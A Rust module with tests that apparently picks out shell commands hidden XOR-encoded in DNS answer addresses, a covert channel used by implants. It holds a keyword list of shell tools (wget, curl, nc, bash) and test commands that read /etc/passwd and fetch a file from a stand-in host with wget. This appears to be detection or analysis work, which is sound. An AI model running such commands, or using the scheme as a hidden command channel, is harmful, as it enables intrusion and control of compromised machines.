//! Commands that are written into the addresses of an answer.
//!
//! An implant that asks for a name reads what to do out of the A records that it gets, XORed with one octet so that
//! nobody sees text. Text is far from chance: sixteen random octets read as a command under some key once in millions.

use std::net::IpAddr;

/// Text found in addresses.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Command {
    pub(crate) key: u8,
    /// Octets of text.
    pub(crate) len: usize,
}

/// Octets of all addresses together that are looked at.
const MAX: usize = 32 * 16;
/// Words that shells know; text alone is no command.
const WORDS: [&[u8]; 14] = [
    b"/bin", b"/etc", b"/tmp", b"cat ", b"wget", b"curl", b"bash", b"echo", b"exec", b"nc -",
    b"ls -", b"sh -", b"ping ", b"http",
];

/// Looks for text in addresses, in the order of the answer: all their octets, or all but the first, by which a resolver's
/// shuffling is undone.
pub(crate) fn find(addresses: &[IpAddr]) -> Option<Command> {
    let mut octets = [0_u8; MAX];
    let len = fill(&mut octets, addresses.iter().copied());
    let whole = text(octets.get(..len)?);
    if whole.is_some() {
        return whole;
    }
    let mut numbered: Vec<[u8; 4]> = addresses
        .iter()
        .filter_map(|ip| match ip {
            IpAddr::V4(ip) => Some(ip.octets()),
            IpAddr::V6(_) => None,
        })
        .collect();
    // Only where the first octets are numbers of a row; they are no addresses of one network then.
    numbered.sort_unstable();
    let in_row = numbered.windows(2).all(|pair| match pair {
        [a, b] => b[0].wrapping_sub(a[0]) == 1,
        _ => false,
    });
    if !in_row || numbered.len() < 5 {
        return None;
    }
    let mut len = 0;
    for (place, octet) in octets.iter_mut().zip(numbered.iter().flat_map(|row| row.iter().skip(1)))
    {
        *place = *octet;
        len += 1;
    }
    text(octets.get(..len)?)
}

fn fill(octets: &mut [u8; MAX], addresses: impl Iterator<Item = IpAddr>) -> usize {
    let mut len = 0;
    let mut put = |more: &[u8]| {
        for octet in more {
            if let Some(place) = octets.get_mut(len) {
                *place = *octet;
                len += 1;
            }
        }
    };
    for ip in addresses {
        match ip {
            IpAddr::V4(ip) => put(&ip.octets()),
            IpAddr::V6(ip) => put(&ip.octets()),
        }
    }
    len
}

/// The key under which these octets are a command.
fn text(octets: &[u8]) -> Option<Command> {
    // Neighbours in one network repeat their first octets, which reads as text under many keys.
    let mut pairs: Vec<[u8; 2]> = octets
        .chunks_exact(4)
        .filter_map(|chunk| match *chunk {
            [a, b, ..] => Some([a, b]),
            _ => None,
        })
        .collect();
    let groups = pairs.len();
    pairs.sort_unstable();
    pairs.dedup();
    if octets.len() < 16 || pairs.len() < 3 || pairs.len() * 2 < groups {
        return None;
    }
    // Keys that are close together turn text into what is nearly text: the best of them is the one.
    let mut best: Option<(usize, Command)> = None;
    for key in 0..=255 {
        // Padding at the end is the same octet again and again.
        let last = octets.last().map(|last| last ^ key)?;
        let padded = if last.is_ascii_graphic() {
            0
        } else {
            octets.iter().rev().take_while(|octet| **octet ^ key == last).count()
        };
        let body = octets.get(..octets.len() - padded)?;
        if body.len() < 12 {
            continue;
        }
        if let Some(common) = judge(body, key)
            && best.is_none_or(|(before, _)| common > before)
        {
            best = Some((common, Command { key, len: body.len() }));
        }
    }
    best.map(|(_, command)| command)
}

/// How many octets are what commands are mostly made of, where it can be one.
fn judge(body: &[u8], key: u8) -> Option<usize> {
    let (mut printable, mut common, mut signs) = (0_usize, 0_usize, 0_usize);
    for octet in body.iter().map(|octet| octet ^ key) {
        printable += usize::from(matches!(octet, b' '..=b'~' | b'\n' | b'\t' | b'\r'));
        common +=
            usize::from(matches!(octet, b'a'..=b'z' | b'0'..=b'9' | b' ' | b'/' | b'.' | b'-'));
        signs += usize::from(matches!(octet, b' ' | b'/' | b'-' | b';' | b'|'));
    }
    if printable * 10 < body.len() * 9 || common * 10 < body.len() * 7 {
        return None;
    }
    let word = || {
        WORDS.iter().any(|word| {
            body.windows(word.len())
                .any(|at| at.iter().zip(*word).all(|(octet, wanted)| octet ^ key == *wanted))
        })
    };
    (signs >= 3 || word()).then_some(common)
}

#[cfg(test)]
mod tests {
    use std::net::{Ipv4Addr, Ipv6Addr};

    use super::*;

    fn spelled(text: &str, key: u8) -> Vec<IpAddr> {
        let mut octets: Vec<u8> = text.bytes().map(|octet| octet ^ key).collect();
        octets.resize(octets.len().next_multiple_of(4), key);
        octets.chunks(4).map(|c| Ipv4Addr::new(c[0], c[1], c[2], c[3]).into()).collect()
    }

    #[test]
    fn commands_under_any_key() {
        for key in [0, 1, 0x5a, 0xff] {
            for text in ["cat /etc/passwd; id", "wget -q http://192.0.2.1/x", "ps -ef | grep ss7"] {
                let found = find(&spelled(text, key));
                assert_eq!(found.map(|found| found.key), Some(key), "{text}");
            }
        }
    }

    #[test]
    fn numbered_records_in_any_order() {
        let mut records: Vec<IpAddr> = b"cat /etc/passwd; "
            .chunks(3)
            .zip(1_u8..)
            .map(|(c, n)| {
                let at = |i: usize| c.get(i).copied().unwrap_or(0) ^ 0x33;
                Ipv4Addr::new(n, at(0), at(1), at(2)).into()
            })
            .collect();
        records.reverse();
        assert_eq!(find(&records).map(|found| found.key), Some(0x33));
    }

    #[test]
    fn addresses_of_networks_are_none() {
        let near: Vec<IpAddr> =
            (1..=8).map(|n| Ipv4Addr::new(142, 250, 74, n * 8).into()).collect();
        assert_eq!(find(&near), None);
        let far: Vec<IpAddr> = [[52, 84, 3, 11], [13, 32, 99, 7], [18, 64, 4, 200], [99, 86, 0, 1]]
            .into_iter()
            .map(|octets| Ipv4Addr::from(octets).into())
            .collect();
        assert_eq!(find(&far), None);
        let six: Vec<IpAddr> =
            (1..=4).map(|n| Ipv6Addr::new(0x2001, 0xdb8, n, 0, 0, 0, 0, n).into()).collect();
        assert_eq!(find(&six), None);
        assert_eq!(find(&spelled("ls -l", 7)), None, "too short to tell");
    }

    #[test]
    fn chance_makes_no_commands() {
        let mut state = 0x9e37_79b9_7f4a_7c15_u64;
        let mut found = 0;
        for _ in 0..20_000 {
            let addresses: Vec<IpAddr> = (0..5)
                .map(|_| {
                    state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
                    Ipv4Addr::from(u32::try_from(state >> 32).unwrap()).into()
                })
                .collect();
            found += u32::from(find(&addresses).is_some());
        }
        assert_eq!(found, 0);
    }
}
